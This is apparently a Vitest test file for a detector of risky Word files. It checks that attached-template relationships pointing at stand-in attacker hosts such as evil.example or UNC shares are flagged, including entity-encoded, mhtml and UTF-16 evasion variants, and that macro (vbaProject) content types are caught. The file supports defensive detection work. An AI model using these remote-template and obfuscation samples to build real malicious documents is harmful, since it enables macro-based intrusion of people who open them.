import { describe, expect, it } from 'vitest';
import { fetchesTemplate, runsCode } from './word-risks.ts';

const relation = (target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;

describe('a Word file', () => {
  it.each([
    'https://evil.example/x.dotm',
    'HTTP://evil.example/x',
    '//evil/share/x.dotm',
    String.raw`\\evil\share\x.dotm`,
    'file://evil/share/x.dotm',
    'file:////evil/share/x.dotm',
    '&#104;ttps://evil.example/x.dotm',
    'mhtml:https://evil.example/x!x',
  ])('fetches its template from %s', (target) => {
    expect(fetchesTemplate(relation(target))).toBe(true);
  });

  it.each([
    String.raw`file:///C:\Users\Lan\Mẫu%20công%20văn.dotx`,
    'file:///D:/A&amp;B/x.dotx',
    'footnotes.xml',
    '/word/x.xml',
  ])('may name the template %s', (target) => {
    expect(fetchesTemplate(relation(target))).toBe(false);
  });

  it('hides nothing behind entities or another encoding', () => {
    expect(fetchesTemplate(`<!DOCTYPE x [<!ENTITY a "http://evil">]>${relation('&a;')}`)).toBe(true);
    expect(fetchesTemplate(Buffer.from(relation('https://evil'), 'utf16le').toString('utf8'))).toBe(true);
    expect(runsCode('<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>')).toBe(true);
    expect(runsCode('<Override ContentType="application/vnd.ms-office.vbaProject"/>')).toBe(true);
    expect(runsCode('<Override ContentType="application/xml"/>')).toBe(false);
  });
});
